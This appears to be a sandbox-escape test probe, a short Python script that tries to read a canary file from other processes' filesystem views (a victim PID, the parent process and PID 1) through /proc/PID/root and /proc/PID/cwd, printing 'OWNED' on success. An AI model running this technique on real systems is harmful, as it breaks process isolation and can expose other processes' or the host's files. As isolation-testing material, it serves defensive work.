# ruff: noqa
# idea: /proc/PID/root is a door to the file system another process sees
# undefended: owned
# sandbox: harmless
import os

for pid in (VICTIM, os.getppid(), 1):
    for door in ("root", "cwd"):
        try:
            print("OWNED", open(f"/proc/{pid}/{door}/{CANARY_FILE.lstrip('/')}").read())
        except OSError:
            continue
